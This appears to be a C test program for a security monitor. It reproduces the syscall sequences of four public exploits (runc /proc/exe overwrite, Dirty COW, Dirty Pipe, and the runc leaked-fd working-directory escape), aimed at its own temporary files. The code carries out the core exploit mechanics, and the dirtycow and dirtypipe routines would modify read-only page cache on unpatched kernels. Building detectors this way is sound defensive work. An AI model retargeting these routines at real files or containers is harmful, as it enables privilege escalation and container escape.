// cve_shapes: the syscall sequences of container-escape and kernel CVEs,
// as their public proofs of concept make them, aimed only at this
// program's own files, memory and children:
//
//   runc-exe   CVE-2019-5736: a running executable reopened for writing
//              through /proc: its child's /proc/PID/exe opened, then
//              /proc/self/fd/N, /proc/PID/exe and /proc/self/exe opened
//              O_WRONLY. The child (a fork) and this process run this
//              program, so the opens fail with ETXTBSY; nothing is
//              written (no O_TRUNC).
//   dirtycow   CVE-2016-5195: a private read-only mapping of its own file,
//              one thread dropping it with madvise(MADV_DONTNEED), another
//              writing it through /proc/self/mem (a private copy: the file
//              is never changed on a fixed kernel).
//   dirtypipe  CVE-2022-0847: a pipe filled and drained, one byte spliced
//              from its own read-only file into it, then a write into the
//              pipe (the file stays as it was on a fixed kernel).
//   cwd-fd     CVE-2024-21626: a directory fd kept open, the working
//              directory set to /proc/self/fd/N, then relative paths out
//              of it (its own directory: reads only).
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static char dir[] = "/tmp/vigil-cve-XXXXXX";

static int own_file(const char *name, const char *body, mode_t mode, char *path, size_t n) {
	snprintf(path, n, "%s/%s", dir, name);
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	if (fd < 0)
		return -1;
	if (write(fd, body, strlen(body)) < 0) {
		close(fd);
		return -1;
	}
	close(fd);
	return chmod(path, mode);
}

static int runc_exe(void) {
	char link[64];
	pid_t child = fork();
	if (child == 0) { // runs this program, as runc runs its own binary
		sleep(3);
		_exit(0);
	}
	usleep(200000);
	snprintf(link, sizeof link, "/proc/%d/exe", child);
	int fd = open(link, O_RDONLY); // the exploit keeps runc's binary open (O_PATH or O_RDONLY)
	for (int i = 0; i < 3 && fd >= 0; i++) {
		char self[64];
		snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
		int w = open(self, O_WRONLY); // ETXTBSY while the child runs it
		if (w >= 0)
			close(w);
		usleep(10000);
	}
	int w = open(link, O_WRONLY);
	if (w >= 0)
		close(w);
	w = open("/proc/self/exe", O_WRONLY); // this program is running: ETXTBSY
	if (w >= 0)
		close(w);
	if (fd >= 0)
		close(fd);
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	return 0;
}

static char *map;
static volatile int stop;

static void *dontneed(void *arg) {
	(void)arg;
	for (int i = 0; i < 2000 && !stop; i++)
		madvise(map, 4096, MADV_DONTNEED);
	return NULL;
}

static int dirtycow(void) {
	char path[256];
	if (own_file("ro", "this file is read-only\n", 0444, path, sizeof path) < 0)
		return 1;
	int fd = open(path, O_RDONLY);
	map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	if (fd < 0 || map == MAP_FAILED)
		return 1;
	pthread_t t;
	pthread_create(&t, NULL, dontneed, NULL);
	int mem = open("/proc/self/mem", O_RDWR);
	for (int i = 0; i < 2000 && mem >= 0; i++)
		if (pwrite(mem, "m00", 3, (off_t)(unsigned long)map) < 0)
			break;
	stop = 1;
	pthread_join(t, NULL);
	if (mem >= 0)
		close(mem);
	munmap(map, 4096);
	close(fd);
	unlink(path);
	return 0;
}

static int dirtypipe(void) {
	char path[256], page[4096];
	if (own_file("ro", "this file is read-only\n", 0444, path, sizeof path) < 0)
		return 1;
	int p[2];
	if (pipe(p) < 0)
		return 1;
	unsigned size = fcntl(p[1], F_GETPIPE_SZ);
	memset(page, 'A', sizeof page);
	for (unsigned n = 0; n < size; n += sizeof page) // every pipe_buffer gets PIPE_BUF_FLAG_CAN_MERGE
		if (write(p[1], page, sizeof page) < 0)
			return 1;
	for (unsigned n = 0; n < size; n += sizeof page)
		if (read(p[0], page, sizeof page) < 0)
			return 1;
	int fd = open(path, O_RDONLY);
	loff_t off = 4;
	if (fd < 0 || splice(fd, &off, p[1], NULL, 1, 0) < 0)
		return 1;
	if (write(p[1], "XX", 2) < 0) // into the page cache on a vulnerable kernel
		return 1;
	close(fd);
	close(p[0]);
	close(p[1]);
	unlink(path);
	return 0;
}

static int cwd_fd(void) {
	char sub[256], self[64], buf[256];
	snprintf(sub, sizeof sub, "%s/a/b", dir);
	snprintf(buf, sizeof buf, "%s/a", dir);
	if (mkdir(buf, 0700) < 0 || mkdir(sub, 0700) < 0)
		return 1;
	if (own_file("hostname", "mine\n", 0600, buf, sizeof buf) < 0)
		return 1;
	int fd = open(sub, O_RDONLY | O_DIRECTORY); // the leaked directory fd
	snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
	if (fd < 0 || chdir(self) < 0)
		return 1;
	int h = open("../../hostname", O_RDONLY); // out of it, relative
	if (h >= 0) {
		if (read(h, buf, sizeof buf) < 0)
			return 1;
		close(h);
	}
	chdir("/");
	close(fd);
	rmdir(sub);
	snprintf(buf, sizeof buf, "%s/a", dir);
	rmdir(buf);
	snprintf(buf, sizeof buf, "%s/hostname", dir);
	unlink(buf);
	return 0;
}

int main(int argc, char **argv) {
	const char *what = argc > 1 ? argv[1] : "";
	if (!mkdtemp(dir))
		return 1;
	int rc = 2;
	if (!strcmp(what, "runc-exe"))
		rc = runc_exe();
	else if (!strcmp(what, "dirtycow"))
		rc = dirtycow();
	else if (!strcmp(what, "dirtypipe"))
		rc = dirtypipe();
	else if (!strcmp(what, "cwd-fd"))
		rc = cwd_fd();
	else
		fprintf(stderr, "usage: cve_shapes runc-exe|dirtycow|dirtypipe|cwd-fd\n");
	rmdir(dir);
	return rc;
}
